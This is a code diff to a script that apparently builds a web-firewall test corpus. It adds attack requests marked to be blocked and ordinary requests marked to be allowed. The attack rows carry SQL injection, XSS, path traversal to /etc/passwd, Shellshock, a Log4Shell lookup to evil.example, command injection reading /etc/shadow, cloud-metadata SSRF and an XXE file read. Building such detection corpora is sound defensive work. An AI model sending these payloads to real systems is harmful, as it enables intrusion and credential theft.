@@ -634,6 +634,71 @@ def lfi_place(i, p):
     return placements(i, p, param=["file", "page", "template", "path", "doc"][i % 5])
 
 
+# Attacks carried where the application reads them without a parameter: headers, path segments,
+# argument names, JSON keys, text bodies. (Same sources as the families above.)
+EXTRA = {
+    "sqli": [
+        ({"method": "GET", "url": "/", "headers": {"User-Agent": "Mozilla/5.0' or 1=1--"}}, "Mozilla/5.0' or 1=1--"),
+        ({"method": "GET", "url": "/", "headers": {"X-Forwarded-For": "10.1.1.1' AND SLEEP(5)--"}}, "10.1.1.1' AND SLEEP(5)--"),
+        ({"method": "GET", "url": "/users/1%20OR%201=1"}, "/users/1 OR 1=1"),
+        ({"method": "GET", "url": "/s?id%27%20or%201%3D1--=1"}, "argument name: id' or 1=1--"),
+        ({"method": "POST", "url": "/api", "headers": {"Content-Type": "application/json"}, "body": '{"q": "\\u0027 or \\u00271\\u0027=\\u00271"}'},
+         "JSON \\u escapes: ' or '1'='1"),
+    ],
+    "xss": [
+        ({"method": "GET", "url": "/", "headers": {"Referer": "https://x.example/<script>alert(1)</script>"}}, "Referer with <script>"),
+        ({"method": "GET", "url": "/search/%3Csvg%20onload=alert(1)%3E"}, "/search/<svg onload=alert(1)>"),
+        ({"method": "GET", "url": "/s?%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E=1"}, "argument name <img src=x onerror=alert(1)>"),
+        ({"method": "POST", "url": "/api", "headers": {"Content-Type": "text/plain"}, "body": "<script>alert(1)</script>"}, "text/plain body"),
+    ],
+    "lfi": [
+        ({"method": "GET", "url": "/index.php/..%2f..%2f..%2fetc/passwd"}, "/index.php/../../../etc/passwd"),
+        ({"method": "GET", "url": "/.git/config"}, "/.git/config"),
+        ({"method": "GET", "url": "/static/..%5c..%5c..%5cwindows/win.ini"}, "/static/..\\..\\..\\windows/win.ini"),
+    ],
+    "rce": [
+        ({"method": "GET", "url": "/", "headers": {"User-Agent": "() { :; }; /bin/bash -c 'id'"}}, "Shellshock in User-Agent"),
+        ({"method": "GET", "url": "/", "headers": {"X-Api-Version": "${jndi:ldap://evil.example/x}"}}, "Log4Shell in a custom header"),
+        ({"method": "POST", "url": "/api", "headers": {"Content-Type": "application/json; charset=utf-8"},
+          "body": json.dumps({"target": "ping -c 1 127.0.0.1; cat /etc/shadow"})}, "ping -c 1 127.0.0.1; cat /etc/shadow"),
+    ],
+    "ssrf": [
+        ({"method": "POST", "url": "/api", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"avatar_url": "http://169.254.169.254/latest/meta-data/"})},
+         "http://169.254.169.254/latest/meta-data/ in JSON"),
+        ({"method": "POST", "url": "/api", "headers": {"Content-Type": "application/xml"},
+          "body": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}, "XML external entity with file://"),
+    ],
+}
+
+BENIGN_REQUESTS = [
+    {"url": "/api/v2/search?q=women%27s+running+shoes&size=8&sort=price_asc"},
+    {"url": "/", "headers": {"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0"}},
+    {"url": "/", "headers": {"User-Agent": "Googlebot/2.1 (+http://www.google.com/bot.html)"}},
+    {"url": "/", "headers": {"Referer": "https://www.bing.com/search?q=select+a+union+plan&form=QBLH"}},
+    {"url": "/", "headers": {"Cookie": "_ga=GA1.2.123456789.1700000000; _gid=GA1.2.987654321.1700000000; consent={\"ads\":false}"}},
+    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"avatar": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="})},
+    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"redirect": "https://example.com/welcome?ref=email&utm_campaign=spring", "webhook": "https://hooks.example.com/services/T000/B000/XXXX"})},
+    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"password": "Tr0ub4dor&3", "confirm": "Tr0ub4dor&3"})},
+    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"text": "l'été; c'est la vie -- à bientôt!"})},
+    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"email": "o'connor@example.com", "name": "Siobhán O'Connor"})},
+    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"query": "price < 100 and brand = 'nike'", "page": 2})},
+    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"markdown": "# Title\n\n- item 1\n- item 2\n\n> quote\n\n`code` and **bold**"})},
+    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"html": "<p>Hello <a href=\"https://example.com\">world</a></p><ul><li>one</li></ul>"})},
+    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"path": "/var/www/html/uploads/2024/photo.jpg"})},
+    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"comment": "I tried rm -rf node_modules and reinstalling; still broken."})},
+    {"url": "/files/reports/2024/Q1%20summary.pdf"}, {"url": "/wiki/Union_(set_theory)"}, {"url": "/wiki/Rock_%27n%27_roll"},
+    {"url": "/blog/2024/05/why-we-chose-postgres-over-mysql"}, {"url": "/search?q=how+to+exit+vim+%3Awq"},
+    {"url": "/search?q=%3Cbr%3E+vs+%3Cbr%2F%3E"}, {"url": "/search?q=c%23+vs+java"}, {"url": "/search?q=1%2B1%3D2"},
+    {"url": "/api/items?filter=status%3Dactive%26type%3Dbook"}, {"url": "/login?next=%2Faccount%2Fsettings%3Ftab%3Dsecurity"},
+    {"url": "/", "headers": {"X-Forwarded-For": "198.51.100.23, 10.0.0.2"}},
+    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"filename": "my resume (final).docx", "size": 23456})},
+    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"bio": "Full-stack dev. Python; Go; Rust. Opinions are mine & not my employer's."})},
+    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"formula": "=SUM(A1:A10)", "note": "spreadsheet"})},
+    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"cron": "*/5 * * * * /usr/bin/backup.sh"})},
+    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"shell_tip": "Use && to chain commands, e.g. make && make install"})},
+]
+
+
 def main():
     files = {
         "sqli": entries("sqli", SQLI, "block", lambda i, p: placements(i, p, param=["id", "q", "user", "sort", "cat"][i % 5])),
@@ -645,6 +710,18 @@ def main():
         "scanner": scanner_entries(),
         "benign": benign_entries(),
     }
+    for cat, extra in EXTRA.items():
+        for req, decoded in extra:
+            r = dict(req)
+            r.update({"id": f"{cat}-{len(files[cat]) + 1:03d}", "category": cat, "expect": "block", "decoded": decoded,
+                      "source": "placement: headers, path segments, argument names, JSON escapes, text and XML bodies"})
+            files[cat].append(r)
+    for req in BENIGN_REQUESTS:
+        r = dict(req)
+        r.setdefault("method", "GET")
+        r.update({"id": f"benign-{len(files['benign']) + 1:03d}", "category": "benign", "expect": "allow",
+                  "decoded": r.get("body") or r["url"], "source": "written for this corpus: ordinary API, page and header traffic"})
+        files["benign"].append(r)
     for name, rows in files.items():
         path = os.path.join(HERE, f"{name}.jsonl")
         with open(path, "w", encoding="utf-8") as f:
